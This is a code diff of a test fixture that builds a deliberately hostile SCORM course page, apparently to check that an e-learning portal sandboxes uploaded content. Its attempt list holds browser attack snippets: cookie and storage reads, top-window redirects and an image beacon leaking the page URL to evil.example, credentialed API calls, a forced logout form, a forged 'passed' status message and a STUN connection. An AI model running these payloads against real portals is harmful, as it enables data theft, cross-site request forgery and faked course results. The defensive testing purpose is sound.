@@ -47,21 +47,25 @@ const attempts: Readonly<Record<string, string>> = {
   nativeStorage: `var f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.localStorage.length`,
   nativeCookie: `return Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document)`,
   topDocument: `return window.top.document.title`,
+  topForged: `window.top.postMessage({ scorm: 'set', element: 'cmi.core.lesson_status', value: 'passed' }, '*'); return 'sent'`,
   topVariable: `return String(window.top.localStorage)`,
   topAway: `window.top.location.href = 'https://evil.example/'; return 'gone'`,
   topReplace: `window.top.location.replace('https://evil.example/'); return 'gone'`,
-  popup: `return String(window.open('/dashboard'))`,
-  callWithCookie: `return fetch('/api/User/getUserInfo', { credentials: 'include' }).then(function (a) { return a.text(); })`,
-  callPlain: `return fetch('/api/User/getUserInfo').then(function (a) { return a.text(); })`,
-  otherCourse: `return fetch('/api/KMS/Course/other/index.html').then(function (a) { return String(a.status); })`,
-  request: `return new Promise(function (done, no) { var x = new XMLHttpRequest(); x.open('POST', '/api/User/UpdateSettings'); x.withCredentials = true;
+  popup: `return String(window.open(portal + '/dashboard'))`,
+  callWithCookie: `return fetch(portal + '/api/User/getUserInfo', { credentials: 'include' }).then(function (a) { return a.text(); })`,
+  callPlain: `return fetch(portal + '/api/User/getUserInfo', { mode: 'no-cors' }).then(function (a) { return a.text(); })`,
+  otherCourse: `return fetch('/course/other/index.html').then(function (a) { return String(a.status); })`,
+  request: `return new Promise(function (done, no) { var x = new XMLHttpRequest(); x.open('POST', portal + '/api/User/UpdateSettings'); x.withCredentials = true;
     x.onload = function () { done(x.responseText); }; x.onerror = function () { no(new Error('blocked')); }; x.send('{}'); })`,
   beacon: `return new Promise(function (done, no) { var i = new Image(); i.onload = function () { done('loaded'); }; i.onerror = function () { no(new Error('blocked')); };
     i.src = 'https://evil.example/x.png?' + encodeURIComponent(location.href); })`,
-  form: `var f = document.createElement('form'); f.method = 'post'; f.action = '/api/User/userLogout'; f.target = 'inner'; document.body.append(f);
+  form: `var f = document.createElement('form'); f.method = 'post'; f.action = portal + '/api/User/userLogout'; f.target = 'inner'; document.body.append(f);
     f.submit(); return new Promise(function (done) { setTimeout(function () { done('sent'); }, 300); })`,
-  portalInFrame: `var f = document.createElement('iframe'); f.src = '/dashboard'; document.body.append(f);
+  portalInFrame: `var f = document.createElement('iframe'); f.src = portal + '/dashboard'; document.body.append(f);
     return new Promise(function (done) { setTimeout(function () { try { done(f.contentDocument ? f.contentDocument.title : 'shut'); } catch (e) { done('shut'); } }, 500); })`,
+  image: `return new Promise(function (done, no) { var i = new Image(); i.onload = function () { done('loaded'); }; i.onerror = function () { no(new Error('blocked')); };
+    i.src = portal + '/favicon.svg'; })`,
+  peer: `return new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] }).createOffer({ offerToReceiveAudio: true }).then(function () { return 'offered'; })`,
   worker: `return navigator.serviceWorker.register('evil.js').then(function () { return 'registered'; })`,
 };
 
@@ -69,9 +73,11 @@ const attempts: Readonly<Record<string, string>> = {
 export const hostileFiles = (): Record<string, string> => ({
   'evil.js': '',
   'index.html': `<!doctype html><html><head><meta charset="utf-8"></head><body><h1>Hostile</h1><iframe name="inner"></iframe><pre id="found"></pre><script>
+      var portal = location.ancestorOrigins[location.ancestorOrigins.length - 1];
       var attempts = {${Object.entries(attempts)
         .map(([name, body]) => `${name}: function () { ${body} }`)
         .join(',\n')}};
+      var API = window.parent.API;
       API.LMSInitialize('');
       var found = {}, names = Object.keys(attempts);
       (function next() {
@@ -83,3 +89,29 @@ export const hostileFiles = (): Record<string, string> => ({
     </script></body></html>`,
 });
 export const attemptNames: readonly string[] = Object.keys(attempts);
+
+/** A unit of a course of several, with a button for each end that it can come to. It ends its session when its page goes. */
+export function unitPage(version: ScormVersion, name: string): string {
+  const is12 = version === '1.2';
+  const [api, get, set, end] = is12
+    ? ['API', 'LMSGetValue', 'LMSSetValue', 'LMSFinish']
+    : ['API_1484_11', 'GetValue', 'SetValue', 'Terminate'];
+  const say = is12
+    ? `set('cmi.core.score.raw', word === 'passed' ? '90' : '40'); set('cmi.core.lesson_status', word);`
+    : `set('cmi.score.scaled', word === 'passed' ? '0.9' : '0.4'); set('cmi.completion_status', 'completed'); set('cmi.success_status', word === 'completed' ? 'unknown' : word);`;
+  return `<!doctype html><meta charset="utf-8"><h1>${name}</h1><p id="entry"></p>
+    <button onclick="end('completed')">completed</button><button onclick="end('passed')">passed</button><button onclick="end('failed')">failed</button>
+    <button onclick="end('passed'); ${is12 ? '' : `set('adl.nav.request', 'continue');`} leave()">go on</button>
+    <script>
+      var api = parent.${api};
+      var get = function (name) { return api.${get}(name); };
+      var set = function (name, value) { return api.${set}(name, value); };
+      var leave = function () { api.${end}(''); };
+      api.${is12 ? 'LMSInitialize' : 'Initialize'}('');
+      var visits = Number(get('cmi.suspend_data') || 0) + 1;
+      set('cmi.suspend_data', String(visits));
+      document.getElementById('entry').textContent = 'Entry: ' + get('${is12 ? 'cmi.core.entry' : 'cmi.entry'}') + ', visits: ' + visits;
+      function end(word) { if (word === 'completed') { set('${is12 ? 'cmi.core.lesson_status' : 'cmi.completion_status'}', 'completed'); } else { ${say} } api.${is12 ? 'LMSCommit' : 'Commit'}(''); }
+      window.addEventListener('pagehide', leave);
+    </script>`;
+}
